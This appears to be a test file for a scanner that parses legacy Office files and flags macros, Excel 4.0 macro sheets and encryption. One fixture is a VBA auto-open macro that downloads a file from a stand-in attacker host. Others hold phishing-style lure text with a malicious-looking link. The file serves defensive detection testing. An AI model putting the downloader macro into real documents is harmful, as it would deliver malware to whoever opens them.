import { describe, expect, test } from 'vitest';
import { readFile } from '../../../src/parse/files/read-file.ts';
import { ole, vbaStreams } from '../../helpers/office.ts';

const look = (bytes: Uint8Array, name: string) => readFile({ bytes, name, declaredType: '', inline: false });
const macro = 'Sub Workbook_Open()\r\n  URLDownloadToFile 0, "http://evil.example/a", "b", 0, 0\r\nEnd Sub';

test('an old Word document: macros, words and links', async () => {
  const words = Buffer.concat([
    Buffer.alloc(64),
    Buffer.from('Please confirm your account. HYPERLINK "https://evil.example/w" here', 'latin1'),
    Buffer.alloc(64),
    Buffer.from('请确认您的账户信息', 'utf16le'),
  ]);
  const content = await look(ole({ WordDocument: words, ...vbaStreams(macro, { folder: 'Macros/' }) }), 'a.doc');
  expect(content).toMatchObject({ type: 'doc', gaps: [] });
  expect(content.traits).toEqual(['macro', 'macro-auto-open', 'macro-runs-programs']);
  expect(content.text).toContain('Please confirm your account.');
  expect(content.text).toContain('请确认您的账户信息');
  expect(content.links.map((link) => link.url)).toContain('https://evil.example/w');
});

test('large streams, kept in whole sectors, are read too', async () => {
  const words = Buffer.from('Please pay this invoice today. '.repeat(500), 'latin1');
  const content = await look(ole({ WordDocument: words }), 'a.doc');
  expect(content.text?.split('\n').join('')).toContain('Please pay this invoice today. Please pay');
});

describe('an old Excel table', () => {
  const record = (id: number, data: number[]) => Buffer.from([id, 0, data.length, 0, ...data]);
  const end = record(0x0a, []);
  const sheet = (kind: number) => record(0x85, [0, 0, 0, 0, 0, kind, 1, 0, 65]);

  test('a macro sheet of Excel 4.0', async () => {
    expect((await look(ole({ Workbook: Buffer.concat([sheet(1), end]) }), 'a.xls')).traits).toEqual(['excel4-macro']);
  });

  test('an ordinary sheet', async () => {
    expect(await look(ole({ Workbook: Buffer.concat([sheet(0), end]) }), 'a.xls')).toMatchObject({
      type: 'xls',
      traits: [],
      gaps: [],
    });
  });

  test('an encrypted one', async () => {
    const content = await look(ole({ Workbook: Buffer.concat([record(0x2f, [0, 0]), end]) }), 'a.xls');
    expect(content).toMatchObject({ traits: ['encrypted'], gaps: [{ why: 'encrypted', blinding: true }] });
  });
});

test('a modern document behind a password', async () => {
  const content = await look(ole({ EncryptedPackage: Buffer.from('x'), EncryptionInfo: Buffer.from('y') }), 'a.xlsx');
  expect(content).toMatchObject({ type: 'xlsx', traits: ['encrypted'], gaps: [{ why: 'encrypted', blinding: true }] });
});

test('an Outlook message is handed back to be read as a mail', async () => {
  const bytes = ole({ '__properties_version1.0': Buffer.from('x') });
  expect(await look(bytes, 'a.msg')).toMatchObject({ type: 'msg', mail: bytes, gaps: [] });
});
